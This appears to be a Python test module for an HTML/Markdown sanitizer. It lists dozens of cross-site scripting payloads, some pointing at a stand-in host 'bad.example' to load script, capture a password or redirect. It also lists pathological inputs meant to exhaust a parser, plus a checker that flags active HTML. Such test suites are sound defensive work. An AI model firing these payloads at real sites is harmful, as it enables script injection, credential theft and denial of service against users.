"""Texts that were written to make a page act, and what would act in a piece of HTML."""

from __future__ import annotations

import re
from html.parser import HTMLParser

BENIGN = {"p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd"}
BENIGN |= {"blockquote", "pre", "code", "kbd", "em", "strong", "del", "sub", "sup", "abbr"}
BENIGN |= {"a", "img", "div", "span", "table", "thead", "tbody", "tr", "th", "td"}
HARMLESS = {"class", "href", "rel", "src", "alt", "title", "start", "align", "tabindex"}
LINK = re.compile(r"(https?://[^\s:@\\]+|mailto:|#)")
PICTURE = re.compile(r"/[^/\\:][^:\\]*\.(png|jpe?g|gif|webp)$", re.IGNORECASE)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://bad.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//bad.example/x.swf>",
    "<form action=//bad.example><input name=password><button>go</button></form>",
    "<base href=//bad.example>",
    "<meta http-equiv=refresh content='0;url=//bad.example'>",
    "<link rel=stylesheet href=//bad.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<br onclick=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<sup/onclick=alert(1)>x</sup>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://bad.example/1)",
    "[x](//bad.example)",
    "[x](\\\\bad.example)",
    "[x](/\\bad.example)",
    "[x](https:bad.example)",
    "[x](https://good.example@bad.example/)",
    "[x](https:\\\\bad.example)",
    "[x](?next=//bad.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/static/x.svg)",
    "![x](//bad.example/x.png)",
    "![x](https://bad.example/pixel.png)",
    '![x](/a.png"onerror="alert(1))',
    '![x](/a.png "\\" onerror=\\"alert(1)")',
    "![\"onerror=alert(1)](/a.png)",
    '[x](https://a.example "\\" onclick=\\"alert(1)")',
    "[<script>alert(1)</script>](https://a.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```{.python onclick=alert(1)}\nx\n```",
    "    <script>alert(1)</script>",
    "    :::<script>alert(1)</script>\n    x",
    "x {: onclick=alert(1) }",
    "# x {#main onclick=alert(1) style=color:red}",
    "!!! note\" onclick=\"alert(1)\n    x",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<div markdown=1 onclick=alert(1)>*x*</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "<b><script>alert(1)</b></script>",
    "<b\n>x</b\n><kbd><script></kbd>",
]  # fmt: skip
HOSTILE = [
    "[" * 5000,
    "![[" * 3000,
    "[a](<" * 3000,
    "\n".join("a\n: b" for _ in range(1200)),
    ">" * 5000 + "a",
    "- " * 3000 + "a",
    "*[a]: b\n" * 1500,
    "```\n" * 3000,
    "(" * 9000,
    "*a _b " * 2500,
    "x" * 30_000,
]


class Seen(HTMLParser):
    """Everything in a piece of HTML that could act."""

    def __init__(self, html):
        super().__init__()
        self.wrong = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in BENIGN:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in HARMLESS:
                self.wrong.append((tag, name, value))
            if name == "href" and not LINK.match(value or ""):
                self.wrong.append((tag, name, value))
            if name == "src" and not PICTURE.match(value or ""):
                self.wrong.append((tag, name, value))

    def handle_comment(self, data):
        self.wrong.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment
